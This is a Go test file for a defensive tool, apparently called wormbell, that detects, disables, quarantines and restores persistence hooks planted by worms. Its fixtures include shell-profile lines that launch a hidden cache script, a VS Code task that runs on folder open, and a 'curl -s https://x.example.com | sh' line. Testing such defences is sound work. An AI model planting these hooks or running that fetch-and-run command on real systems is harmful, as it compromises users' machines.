package persistence_test

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"wormbell/agent/respond/persistence"
)

// content is everything in the home: names, kinds, modes, contents, times.
func (m *machine) content() map[string]string {
	m.t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(m.home, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		text := info.Mode().String() + " "
		if info.Mode()&fs.ModeSymlink != 0 {
			to, err := os.Readlink(p)
			out[p[len(m.home):]] = text + to
			return err
		}
		b, err := os.ReadFile(p)
		out[p[len(m.home):]] = text + string(b)
		return err
	})
	if err != nil {
		m.t.Fatal(err)
	}
	return out
}

// TestDisableAndRestore: whatever blocks can be disabled, or it is said that a
// person must; then it blocks no more, and it can be put back as it was.
func TestDisableAndRestore(t *testing.T) {
	t.Parallel()
	for _, w := range worms {
		t.Run(w.name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			w.plant(m)
			m.young()
			before, crontab := m.content(), m.crontab
			f := m.blocking(w.what)
			done, err := f.Disable(t.Context(), m.config)
			if err != nil {
				t.Fatalf("%v\n%+v", err, done)
			}
			if len(done.Steps) == 0 || done.Folder == "" {
				t.Errorf("it does not say what it did: %+v", done)
			}
			switch w.what {
			case persistence.Task, persistence.RunKey: // the answers of the doubles do not change
				m.answers = map[string]string{}
			}
			m.quiet()
			taken, err := persistence.Taken(m.config)
			if err != nil || len(taken) != 1 || taken[0] != done.Folder {
				t.Errorf("taken away: %v, %v; want %q", taken, err, done.Folder)
			}
			if _, err := persistence.Restore(t.Context(), m.config, done.Folder); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(before, m.content()); diff != "" && w.what != persistence.EditorTask && w.what != persistence.AIHook {
				t.Errorf("after putting it back:\n%s", diff)
			}
			if m.crontab != crontab {
				t.Errorf("crontab: got %q, want %q", m.crontab, crontab)
			}
			if w.what == persistence.EditorTask || w.what == persistence.AIHook {
				m.blocking(w.what)
			}
			if taken, _ := persistence.Taken(m.config); len(taken) != 0 {
				t.Errorf("what was put back is still listed: %v", taken)
			}
		})
	}
}

func TestDisableKeepsTheRest(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	s := ".cache/" + word()
	m.put(map[string]string{s: wiper(),
		".bashrc":                        "# mine\nif [ -t 1 ]; then\n  (nohup sh ~/" + s + " &)\nfi\nexport A=1\n",
		"work/app/.vscode/setup.sh":      "exit 0\ncurl -s https://x.example.com | sh\n",
		"work/app/.vscode/tasks.json":    "{\n  // keep this remark\n  \"tasks\": [\n    {\"label\": \"a\", \"command\": \"make\"},\n    {\"label\": \"b\", \"command\": \"sh .vscode/setup.sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}\n  ]\n}\n",
		".config/fish/config.fish":       "if status is-interactive\n  sh ~/" + s + " &\nend\nset -x A 1\n",
		".config/powershell/profile.ps1": "if ($true) {\n  sh ~/" + s + "\n}\n"})
	m.young()
	r := m.look()
	if len(r.Blocking()) != 4 {
		t.Fatalf("want 4 traps that block:\n%s", strings.Join(r.Summary(), "\n"))
	}
	for _, f := range r.Blocking() {
		if _, err := f.Disable(t.Context(), m.config); err != nil {
			t.Fatal(err)
		}
	}
	m.quiet()
	for name, parts := range map[string][]string{
		".bashrc":                        {"# mine\nif [ -t 1 ]; then\n: # disabled by wormbell, ", "\n#   (nohup sh", "\nfi\nexport A=1\n"},
		"work/app/.vscode/tasks.json":    {"// keep this remark", "{\"label\": \"a\", \"command\": \"make\"}\n  ]"},
		".config/fish/config.fish":       {"if status is-interactive\n: # disabled", "\nend\nset -x A 1\n"},
		".config/powershell/profile.ps1": {"if ($true) {\n# disabled", "\n}\n"},
	} {
		b, err := os.ReadFile(m.path(name))
		if err != nil {
			t.Fatal(err)
		}
		for _, part := range parts {
			if !strings.Contains(string(b), part) {
				t.Errorf("%s: no %q in\n%s", name, part, b)
			}
		}
	}
}

func TestLinesOfLargerCommands(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, before, line, after string
		byHand                    bool
	}{
		{"alone", "a\n", "sh ~/.x/m &\n", "b\n", false},
		{"goes on in the next line", "", "nohup sh \\\n  ~/.x/m &\n", "b\n", false},
		{"opens a block", "", "while sh ~/.x/m; do\n  sleep 1\ndone\n", "b\n", false},
		{"closes a block", "if a; then\n  b\n", "fi; sh ~/.x/m\n", "c\n", true},
		{"in a text", "", "sh ~/.x/m << EOF\n", "x\nEOF\n", true},
		{"a string that does not end", "", "sh ~/.x/m \"a\n", "b\"\n", true},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			m.put(map[string]string{".x/m": wiper(), ".bashrc": test.before + test.line + test.after})
			m.young()
			f := m.blocking(persistence.Shell)
			done, err := f.Disable(t.Context(), m.config)
			b, _ := os.ReadFile(m.path(".bashrc"))
			if test.byHand {
				if !errors.Is(err, persistence.ErrLeft) || len(done.Left) == 0 {
					t.Errorf("got %v", err)
				}
				if string(b) != test.before+test.line+test.after {
					t.Errorf("the file was changed: %q", b)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(string(b), test.before+": # ") || !strings.HasSuffix(string(b), "\n"+test.after) {
				t.Errorf("got\n%s", b)
			}
		})
	}
}

func TestChangedMeanwhile(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.put(map[string]string{".x/m": wiper(), ".bashrc": "sh ~/.x/m &\n"})
	m.young()
	f := m.blocking(persistence.Shell)
	m.put(map[string]string{".bashrc": "echo other\n"})
	if done, err := f.Disable(t.Context(), m.config); !errors.Is(err, persistence.ErrLeft) || !strings.Contains(strings.Join(done.Left, " "), "any more") {
		t.Errorf("got %v, %+v", err, done)
	}
	if b, _ := os.ReadFile(m.path(".bashrc")); string(b) != "echo other\n" {
		t.Errorf("the file was changed: %q", b)
	}
}

func TestTrapsOfEarlierLooks(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.put(map[string]string{".x/m": wiper(), ".bashrc": "sh ~/.x/m &\n"})
	f := m.blocking(persistence.Shell)
	b, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	var read persistence.Trap
	if err := json.Unmarshal(b, &read); err != nil {
		t.Fatal(err)
	}
	if _, err := read.Disable(t.Context(), m.config); !errors.Is(err, persistence.ErrStale) {
		t.Errorf("got %v, want ErrStale", err)
	}
	if again := m.blocking(persistence.Shell); again.ID != f.ID {
		t.Errorf("its ID changed from %s to %s", f.ID, again.ID)
	}
}

// TestLinkInTheWay: a folder that has become a link leads nowhere.
func TestLinkInTheWay(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh")
	m.put(map[string]string{"precious/m": "mine"})
	m.young()
	f := m.blocking(persistence.Unit)
	if err := os.Rename(m.path(".x"), m.path(".y")); err != nil {
		t.Fatal(err)
	}
	m.link("precious", ".x")
	if _, err := f.Disable(t.Context(), m.config); err != nil {
		t.Logf("%v", err) // either is good, as long as nothing is lost
	}
	found := false
	for name, text := range m.content() {
		found = found || strings.HasSuffix(name, "/m") && strings.HasSuffix(text, "mine")
	}
	taken, _ := persistence.Taken(m.config)
	if !found && len(taken) == 0 {
		t.Error("precious/m is gone")
	}
}

// TestRestoreOverwritesNothing: what has taken the place stays.
func TestRestoreOverwritesNothing(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh")
	m.young()
	f := m.blocking(persistence.Unit)
	done, err := f.Disable(t.Context(), m.config)
	if err != nil {
		t.Fatal(err)
	}
	m.put(map[string]string{".x/m": "another"})
	if _, err := persistence.Restore(t.Context(), m.config, done.Folder); !errors.Is(err, persistence.ErrLeft) {
		t.Errorf("got %v, want ErrLeft", err)
	}
	if b, _ := os.ReadFile(m.path(".x/m")); string(b) != "another" {
		t.Errorf("got %q", b)
	}
	for _, bad := range []string{"../quarantine/" + done.Folder, "", ".", done.Folder + "/.", "none"} {
		if _, err := persistence.Restore(t.Context(), m.config, bad); err == nil {
			t.Errorf("%q was restored", bad)
		}
	}
}

func TestQuarantineIsPrivate(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh")
	if err := os.Chmod(m.path(".x/m"), 0o755); err != nil {
		t.Fatal(err)
	}
	m.young()
	if _, err := m.blocking(persistence.Unit).Disable(t.Context(), m.config); err != nil {
		t.Fatal(err)
	}
	err := filepath.WalkDir(m.config.State, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err == nil && info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is %v", p, info.Mode())
		}
		if err == nil && !d.IsDir() && info.Mode().Perm()&0o111 != 0 {
			t.Errorf("%s can be run", p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestNothingIsRun: of what was found, nothing is ever started; of the
// system's programs only those that are needed, and none stops a unit, which
// would run its last commands.
func TestNothingIsRun(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh", "ExecStop=/bin/sh %h/.x/m stop")
	m.answers["systemctl --user daemon-reload"] = ""
	m.young()
	if _, err := m.blocking(persistence.Unit).Disable(t.Context(), m.config); err != nil {
		t.Fatal(err)
	}
	want := []string{"crontab -l", "atq", "systemctl --user daemon-reload"}
	if diff := cmp.Diff(want, m.ran); diff != "" {
		t.Errorf("programs that were run:\n%s", diff)
	}
}

func TestLaunchdOrder(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.config.System = "darwin"
	m.put(map[string]string{".x/m": wiper(), "Library/LaunchAgents/com.q.plist": agentPlist("com.q", "/bin/sh", m.path(".x/m"))})
	m.young()
	f := m.blocking(persistence.Agent)
	m.ran = nil
	m.answers["launchctl bootout gui/4242/com.q"] = ""
	if _, err := f.Disable(t.Context(), m.config); err != nil {
		t.Fatal(err)
	}
	want := []string{"launchctl kill SIGSTOP gui/4242/com.q", "launchctl bootout gui/4242/com.q"}
	if diff := cmp.Diff(want, m.ran); diff != "" {
		t.Errorf("programs that were run:\n%s", diff)
	}
	// One that cannot be ended is told of.
	m = newMachine(t)
	m.config.System = "darwin"
	m.put(map[string]string{".x/m": wiper(), "Library/LaunchAgents/com.q.plist": agentPlist("com.q", "/bin/sh", m.path(".x/m"))})
	m.young()
	m.answers["launchctl print gui/4242/com.q"] = "state = running"
	if _, err := m.blocking(persistence.Agent).Disable(t.Context(), m.config); !errors.Is(err, persistence.ErrLeft) {
		t.Errorf("got %v, want ErrLeft", err)
	}
}

func TestHardErrors(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.put(map[string]string{".x/m": wiper(), ".bashrc": "sh ~/.x/m &\n"})
	m.young()
	f := m.blocking(persistence.Shell)
	m.config.State = ""
	if _, err := f.Disable(t.Context(), m.config); err == nil {
		t.Error("it was disabled without a place for copies")
	}
	if _, err := persistence.Look(t.Context(), persistence.Config{}); err == nil {
		t.Error("it looked without a home")
	}
}
